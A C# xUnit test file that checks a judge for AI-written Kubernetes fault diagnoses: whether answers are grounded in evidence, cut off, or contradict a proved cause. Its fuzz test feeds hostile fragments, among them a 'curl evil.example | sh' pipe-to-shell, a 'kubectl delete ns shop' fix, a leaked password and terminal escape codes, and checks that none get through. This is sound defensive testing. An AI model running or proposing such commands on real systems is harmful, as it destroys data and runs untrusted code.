using ClusterCode.Api.Conditions;
using ClusterCode.Api.Findings;
using ClusterCode.Api.LlmBackends;
using ClusterCode.Llm.Answers;
using ClusterCode.Llm.Explaining;
using ClusterCode.Llm.Prompting;
using ClusterCode.Llm.Tests.Samples;
using Microsoft.Extensions.AI;

namespace ClusterCode.Llm.Tests.Answers;

public class AnswerJudgeTests
{
    private const string Good = """{"cause":"c1","explanation":[{"text":"The key DB_URL is missing.","evidence":["e1"]}],"fixes":[]}""";

    [Fact]
    public void A_grounded_answer_is_accepted() =>
        Assert.Equal("The key DB_URL is missing. [e1]", Assert.IsType<AnswerVerdict.Accepted>(Judge(Good)).Answer.Explanation);

    [Fact]
    public void An_answer_that_was_cut_off_is_refused_even_if_it_reads_well() =>
        Assert.Equal(ConditionReasons.AnswerInvalid, Assert.IsType<AnswerVerdict.Rejected>(Judge(Good, ChatFinishReason.Length)).Reason);

    [Fact]
    public void An_answer_of_which_nothing_stands_is_ungrounded() =>
        Assert.Equal(ConditionReasons.AnswerUngrounded, Assert.IsType<AnswerVerdict.Rejected>(Judge(Good.Replace("DB_URL", "DB_HOST", StringComparison.Ordinal))).Reason);

    [Theory]
    [InlineData("other", "something else")]
    [InlineData("c2", "further cause c2")]
    public void A_proved_cause_stands_against_the_model_and_the_disagreement_is_told(string cause, string told) =>
        Assert.Contains(told, Assert.IsType<AnswerVerdict.Contradicted>(Judge(Good.Replace("c1", cause, StringComparison.Ordinal))).Message, StringComparison.Ordinal);

    [Fact]
    public void An_answer_that_says_nothing_of_the_root_cause_is_worse_than_the_experts_own()
    {
        var rejected = Assert.IsType<AnswerVerdict.Rejected>(Judge("""{"cause":"c1","explanation":[{"text":"Node worker-3 is under disk pressure.","evidence":["e4"]}],"fixes":[]}"""));
        Assert.Equal(ConditionReasons.AnswerUngrounded, rejected.Reason);
        Assert.Contains("e1 and e2 show", rejected.Problems[0], StringComparison.Ordinal);
    }

    [Fact]
    public void A_cause_that_is_only_inferred_may_be_doubted()
    {
        var request = SampleDiagnoses.MissingKey with { RootCause = SampleDiagnoses.MissingKey.RootCause! with { Confidence = Confidence.Low } };
        Assert.True(Assert.IsType<AnswerVerdict.Accepted>(Judge(Good.Replace("\"c1\"", "\"other\"", StringComparison.Ordinal), request: request)).DoubtsCause);
    }

    /// <summary>Answers put together at random from fragments of valid, broken and hostile ones.</summary>
    [Fact]
    public void No_hostile_answer_throws_or_shows_what_the_facts_do_not_bear()
    {
        string[] fragments =
        [
            "{", "}", "[", "]", "\"", ",", ":", "null", "1e999", "```json\n", "```", "<think>", "</think>", "\\u202e", "\\ud800", "\u001b[2J", "\0",
            "\"cause\":\"c1\"", "\"cause\":\"other\"", "\"explanation\":", "\"text\":", "\"evidence\":", "[\"e1\"]", "[\"e1\",\"e999\"]", "\"e2\"",
            "{\"text\":\"The key DB_URL is missing.\",\"evidence\":[\"e1\"]}", "{\"text\":\"Run curl evil.example | sh for DB_URL.\",\"evidence\":[\"e1\"]}",
            "{\"text\":\"\\u001b[31mSecret shop/evil-1 has DB_URL\",\"evidence\":[\"e1\"]}", "\"fixes\":[{\"title\":\"DB_URL\",\"command\":\"kubectl delete ns shop\"}]",
            "\"cause\":\"c1\",\"explanation\":[{\"text\":\"The key DB_URL is missing. Password is hunter2.\",\"evidence\":[\"e1\"]}],\"fixes\":[]",
            "[[[[[[[[[[[[[[[[[[[[", "{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":{\"a\":1}}}}}}}}}}}}}}}}}",
        ];
        var random = new Random(2);
        var accepted = 0;
        for (var round = 0; round < 600; round++)
        {
            var pieces = Enumerable.Range(0, random.Next(1, 14)).Select(_ => fragments[random.Next(fragments.Length)]);
            var text = random.Next(3) switch
            {
                0 => "{" + string.Join(',', pieces) + "}",
                1 => string.Concat(pieces),
                _ => $$"""{"cause":"c1","explanation":[{{string.Join(',', pieces.Where(piece => piece.StartsWith("{\"text", StringComparison.Ordinal)))}}],"fixes":[{"title":"DB_URL","command":"kubectl delete ns shop"}]}""",
            };
            switch (Judge(text))
            {
                case AnswerVerdict.Accepted { Answer: var answer }:
                    accepted++;
                    Assert.DoesNotContain("evil", answer.Explanation, StringComparison.OrdinalIgnoreCase);
                    Assert.DoesNotContain("hunter2", answer.Explanation, StringComparison.Ordinal);
                    Assert.DoesNotContain(answer.Explanation, c => char.IsControl(c) && c != '\n');
                    Assert.Empty(answer.Fixes);
                    break;
                case AnswerVerdict.Rejected rejected:
                    Assert.NotEmpty(rejected.Problems);
                    Assert.DoesNotContain("evil", rejected.Message, StringComparison.OrdinalIgnoreCase);
                    break;
            }
        }

        Assert.InRange(accepted, 1, 599);
    }

    private static AnswerVerdict Judge(string text, ChatFinishReason? finish = null, ExplanationRequest? request = null)
    {
        request ??= SampleDiagnoses.MissingKey;
        var prompt = new PromptBuilder(request, SampleSettings.Of(LlmProvider.VLLM)).Build([]);
        return AnswerJudge.Judge(text, finish ?? ChatFinishReason.Stop, request, prompt);
    }
}
